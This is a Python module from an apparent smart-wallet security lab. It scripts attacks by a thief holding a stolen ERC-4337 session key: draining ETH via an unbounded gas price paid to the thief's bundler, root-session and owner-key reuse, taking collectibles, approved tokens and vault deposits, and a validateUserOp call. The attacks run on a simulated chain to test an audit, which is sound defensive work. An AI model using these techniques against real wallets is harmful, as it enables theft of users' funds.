"""What a stolen key takes besides what its session was meant for. No rule refuses most of it; an audit foretells it.

Each attack reads the audit first (``foretell``), so that its result says whether the audit was right.
"""

from __future__ import annotations

from typing import Any

from sessionlab.attacks.attack import attack
from sessionlab.attacks.attack_lab import (
    COLLECTIBLE,
    COUNTER,
    ETHER,
    INCREMENT,
    MERCHANT,
    OWNER,
    SESSION,
    SPONSOR,
    STRANGER,
    TOKEN,
    WALLET,
    AttackLab,
    address,
    ask,
    deposit_of,
)
from sessionlab.attacks.foretelling import foretell
from sessionlab.attacks.gains import units, wei
from sessionlab.attacks.gas import limit_for
from sessionlab.attacks.operations import act, install, operation, send, signed, transact
from sessionlab.core.base.abi_words import word
from sessionlab.core.contracts.artifacts import artifact
from sessionlab.core.erc4337 import wallet_encoding as account
from sessionlab.core.erc4337.call import Call
from sessionlab.core.erc4337.user_operation import UserOperation, pack
from sessionlab.core.permissions import (
    AccountFunctions,
    ContractAccess,
    FunctionsOnContract,
    NativeTokenTransfer,
    Root,
)
from sessionlab.core.permissions.functions import VALIDATE_USER_OP

KEY = "the session key"
BOTH = ("documented", "deployed")
ACCESS = ContractAccess(address=COUNTER)
PING = [Call(COUNTER, data=INCREMENT)]
THIEF, VAULT = address("a thief"), address("vault")
token_abi, things = artifact("Token"), artifact("Collectible")


@attack(
    "stolen_keys",
    holds="the session key and a bundler, whose beneficiary is the thief",
    gain="all the ETH of the wallet as fees of one operation",
    source="found by review: 9.9994 of 10 ETH, with 2.2 M of 3 M gas left",
    passes=("documented",),
)
def price_without_bound(lab: AttackLab) -> str:
    """The gas-limit counts gas: one operation at the price that takes the whole wallet, paid to the thief."""
    granted = [limit_for(lab, 2), ACCESS]
    install(lab, granted)
    foretell(lab, granted)
    gas: dict[str, Any] = {
        "verification_gas_limit": 120_000,
        "call_gas_limit": 60_000,
        "pre_verification_gas": 820_000,
    }
    held = lab.chain.balance(WALLET) + deposit_of(lab)
    price = held // sum(gas.values())
    op = operation(lab, PING, max_fee_per_gas=price, max_priority_fee_per_gas=price, **gas)
    send(lab, signed(lab, op, SESSION), beneficiary=THIEF)
    return wei(lab, THIEF)


@attack("stolen_keys", holds=KEY, gain="100 ETH", source="found by review", passes=BOTH)
def key_of_two_sessions(lab: AttackLab) -> str:
    """The key of a narrow session also holds a root session of the same wallet."""
    install(lab, [ACCESS])
    install(lab, [Root()], entity=2)
    foretell(lab, [ACCESS])
    act(lab, [Call(THIEF, lab.chain.balance(WALLET))], entity=2)
    return wei(lab, THIEF)


@attack(
    "stolen_keys", holds="the session key, which is the owner's", gain="100 ETH", source="found by review", passes=BOTH
)
def key_of_the_owner(lab: AttackLab) -> str:
    """A narrow session was granted to the owner's own key: anyone who steals it signs as the owner."""
    install(lab, [ACCESS], key=OWNER)
    foretell(lab, [ACCESS], key=OWNER)
    act(lab, [Call(THIEF, lab.chain.balance(WALLET))], entity=0)
    return wei(lab, THIEF)


@attack("stolen_keys", holds=KEY, gain="a collectible of the wallet", source="found by review", passes=BOTH)
def collectible_by_access(lab: AttackLab) -> str:
    """contract-access to a collection: no permission counts what leaves by its own functions."""
    transact(lab, STRANGER, COLLECTIBLE, things.encode("mint", WALLET, 7))
    granted = [ContractAccess(address=COLLECTIBLE)]
    install(lab, granted)
    foretell(lab, granted)
    act(lab, [Call(COLLECTIBLE, data=things.encode("transferFrom", WALLET, STRANGER.address, 7))])
    has = ask(lab, "Collectible", COLLECTIBLE, "ownerOf", 7).lower() == STRANGER.address.lower()
    return "collectible 7" if has else ""


@attack("stolen_keys", holds=KEY, gain="what others approved to the wallet", source="found by review", passes=BOTH)
def others_approvals(lab: AttackLab) -> str:
    """transferFrom on one token: the wallet's own units stay, and those that somebody approved to it are taken."""
    act(lab, [Call(TOKEN, data=token_abi.encode("transfer", SPONSOR.address, 60))], entity=0)
    transact(lab, SPONSOR, TOKEN, token_abi.encode("approve", WALLET, 60))
    granted = [FunctionsOnContract(address=TOKEN, functions=["transferFrom(address,address,uint256)"])]
    install(lab, granted)
    foretell(lab, granted)
    act(lab, [Call(TOKEN, data=token_abi.encode("transferFrom", SPONSOR.address, STRANGER.address, 60))])
    return units(lab)


@attack("stolen_keys", holds=KEY, gain="what a vault keeps for the wallet", source="found by review", passes=BOTH)
def vault_deposit(lab: AttackLab) -> str:
    """The vault pays the wallet back, and an allowance that was above its balance lets that leave too."""
    vault = artifact("Vault")
    lab.chain.set_code(VAULT, vault.runtime)
    paid = act(lab, [Call(VAULT, 60 * ETHER, vault.encode("deposit"))], entity=0)
    granted = [
        NativeTokenTransfer(allowance=90 * ETHER),
        ContractAccess(address=MERCHANT),
        FunctionsOnContract(address=VAULT, functions=["withdraw(uint256)"]),
    ]
    install(lab, granted)
    foretell(lab, granted)
    had = lab.chain.balance(WALLET)
    act(lab, [Call(VAULT, data=vault.encode("withdraw", 50 * ETHER)), Call(MERCHANT, 90 * ETHER)])
    got = lab.chain.balance(MERCHANT)
    return f"{got:,} wei, where the wallet had {had:,}" if paid.phase == "ok" and got > had else ""


@attack(
    "stolen_keys",
    holds=KEY,
    gain="the wallet's ETH moves into its deposit",
    source="the SDK's list of refused functions does not name validateUserOp; production was not measured with it",
    passes=("deployed",),
)
def validate_as_a_function(lab: AttackLab) -> str:
    """account-functions names validateUserOp: as the call of an operation it pays a prefund that nobody asked for."""
    granted = [AccountFunctions(functions=["0x" + VALIDATE_USER_OP.hex()])]
    install(lab, granted)
    foretell(lab, granted)
    empty = account.execute_batch([], wrapped=False)
    inner = UserOperation(WALLET, account.OWNER_NONCE_KEY << 64, empty, 0, 0, 0, 0, 0).signed(account.DUMMY_SIGNATURE)
    before = deposit_of(lab)
    act(
        lab, VALIDATE_USER_OP + word(96) + bytes(32) + word(lab.chain.balance(WALLET) // 2) + pack(inner), wrapped=False
    )
    moved = deposit_of(lab) - before
    return f"{moved:,} wei into the deposit" if moved > 0 else ""
